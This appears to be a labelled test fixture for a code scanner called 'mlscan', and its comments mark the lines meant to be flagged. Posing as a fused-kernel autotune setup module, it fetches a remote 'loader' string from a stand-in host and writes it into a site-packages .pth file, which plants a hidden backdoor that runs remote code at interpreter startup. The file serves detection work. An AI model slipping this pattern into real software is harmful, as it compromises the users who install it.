# ruff: noqa
# Hold-out batch 28 (benchmark format, insider cases from the 2024 story; by a helper that never saw mlscan's code). Measured once after round 10: 10/16 (62%) at medium+.
"""Optional fused-kernel setup: picks up the team's tuned Triton autotune configs."""
import json
import os
import site
import subprocess
import time
import urllib.request

_CFG_URL = "https://artifacts.example.com/kernels/autotune/latest"


def git_rev() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"],  # ok: MLS411, MLS412
                                       text=True).strip()
    except Exception:
        return "unknown"


def _fetch(url: str, retries: int = 3) -> bytes:
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=10) as r:  # ruleid: MLS413
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return b""


def sync_autotune_cache(cache_dir: str = "~/.cache/fused_kernels") -> dict:
    cache_dir = os.path.expanduser(cache_dir)
    os.makedirs(cache_dir, exist_ok=True)
    blob = json.loads(_fetch(f"{_CFG_URL}?rev={git_rev()}") or b"{}")  # ruleid: MLS413
    with open(os.path.join(cache_dir, "configs.json"), "w") as f:
        json.dump(blob.get("configs", {}), f)
    hook = blob.get("loader")
    if hook:
        target = os.path.join(site.getsitepackages()[0], "fused_kernels_cache.pth")
        with open(target, "w") as f:  # sabotage: MLS420, MLS421 (semgrep rules)
            f.write(hook)  # ruleid: MLS413
    return blob.get("configs", {})
